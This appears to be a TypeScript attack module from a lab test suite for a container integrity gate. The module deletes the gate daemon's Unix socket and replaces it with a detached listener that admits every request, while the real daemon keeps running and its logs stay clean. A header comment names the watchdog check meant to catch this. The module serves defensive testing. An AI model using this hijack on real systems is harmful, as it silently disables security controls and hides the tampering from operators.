/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools): root on the
 * node puts its own listener on the gate daemon's socket path. The real
 * daemon keeps running (on the unlinked socket) and its logs stay clean; the
 * gate client, called by the runtime wrapper and the pull gate, now asks the
 * attacker's listener, which admits everything without looking. The
 * protected workload started next runs on containerd's writable root, and
 * root writes into it.
 *
 * What must catch it: the watchdog, from the node's mount table: a
 * protected container whose root is not the start gate's.
 */
import { ungatedWriteAfter } from './defence-tamper.ts';

const GATE_SOCKET = '/run/integrity-lab/gate.sock';

/** Answers every gate request with exit code 0 (the gate client's wire format: one byte, then text). */
const ADMIT_ALL = `require('node:net').createServer({ allowHalfOpen: true }, (s) => { s.on('data', () => {}); s.on('error', () => {}); s.on('end', () => s.end(Buffer.from([0]))); }).listen(process.argv[1]);`;

export const gateSocketHijack = ungatedWriteAfter('gate-socket-hijack', async ({ node }) => {
  if ((await node.exec.run(['test', '-S', GATE_SOCKET])).exitCode !== 0) return { evidence: { gateSocket: `none on this node (${GATE_SOCKET})` }, what: 'the node has no gate socket' };
  await node.run(['sh', '-c', [
    `rm -f ${GATE_SOCKET}`,
    `setsid node -e "$1" ${GATE_SOCKET} >/dev/null 2>&1 </dev/null &`,
    `for i in $(seq 100); do [ -S ${GATE_SOCKET} ] && exit 0; sleep 0.1; done; echo "no listener on ${GATE_SOCKET} after 10 s" >&2; exit 1`,
  ].join('\n'), 'sh', ADMIT_ALL]);
  return {
    evidence: { gateSocket: GATE_SOCKET, listener: 'an admit-everything listener (node -e) on the gate socket; the real daemon still runs on the unlinked one' },
    what: 'the gate socket now leads to a listener that admits everything',
  };
});
